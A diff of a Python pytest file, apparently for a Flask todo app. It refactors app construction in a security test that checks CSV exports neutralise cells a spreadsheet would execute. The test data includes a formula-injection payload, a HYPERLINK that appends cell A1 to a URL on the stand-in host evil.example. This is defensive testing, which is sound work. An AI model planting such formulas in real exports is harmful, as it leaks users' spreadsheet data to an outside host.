@@ -21,7 +21,7 @@ import shutil
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from urllib.parse import quote
@@ -29,8 +29,8 @@ from urllib.parse import quote
 import psycopg2
 import pytest
 import requests
+from flask import Flask
 
-from app import create_app
 from app.layout import PROJECT_ROOT
 from app.migrate import upgrade
 from app.settings import Settings, SettingsError
@@ -178,20 +178,20 @@ def test_html_in_task_text_is_escaped_in_the_page(secured: Secured) -> None:
 
 @pytest.mark.stack
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(secured: Secured, prefix: str,
-                                                                tmp_path: Path) -> None:
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    secured: Secured, prefix: str, tmp_path: Path, make_app: Callable[..., Flask]
+) -> None:
     from app.db import db
     from app.exports.tasks import write_csv
     from app.models import Todo
 
-    app = create_app(settings=Settings.from_env(secured.env))
+    app = make_app(Settings.from_env(secured.env))
     formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
     with app.app_context():
         db.session.add(Todo(text=formula, position=10_000))
         db.session.commit()
         path = tmp_path / "export.csv"
         write_csv(path)
-        db.engine.dispose()
     with open(path, newline="", encoding="utf-8") as fh:  # keep a cell's own \r
         rows = list(csv.DictReader(fh))
     cells = [row["text"] for row in rows]
